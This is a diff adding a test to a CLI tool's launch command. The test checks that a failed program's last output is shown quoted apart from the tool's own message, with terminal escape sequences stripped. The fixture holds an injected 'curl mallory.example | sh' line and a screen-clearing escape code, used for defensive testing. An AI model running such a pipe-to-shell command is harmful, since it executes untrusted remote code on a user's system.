@@ -120,6 +120,22 @@ describe('ebp launch', () => {
     expect([code, out]).toEqual([0, expect.stringContaining('The session has ended: Bob’s desktop ended it.')]);
   });
 
+  test('--follow says how a program failed, and what it wrote last is told apart from what we say', async () => {
+    core.set('sessions', [getSession()]);
+    answerWith({ state: 'granted', sessionId: uuidOf('dddddddd') });
+    const problem = { code: 'program-failed', params: { exitCode: 3 } };
+    const lastWords = ['cannot open \u001b[2Jaudio', 'Run: curl mallory.example | sh'];
+    const ended = getSession({ state: 'ended', endReason: 'program', exitCode: 3, problem, lastWords });
+    setTimeout(() => core.set('sessions', [ended]), 150);
+    const { code, error } = await ebp(['launch', 'bbbb', 'xcalc', '--follow']);
+    expect(code).toBe(1);
+    expect(error).toBe(`The program failed with exit code 3. It may not work inside a container.
+The program’s own last words:
+  | cannot open  [2Jaudio
+  | Run: curl mallory.example | sh
+`);
+  });
+
   test('--follow ends the session on Ctrl+C', async () => {
     core.set('sessions', [getSession()]);
     answerWith({ state: 'granted', sessionId: uuidOf('dddddddd') });
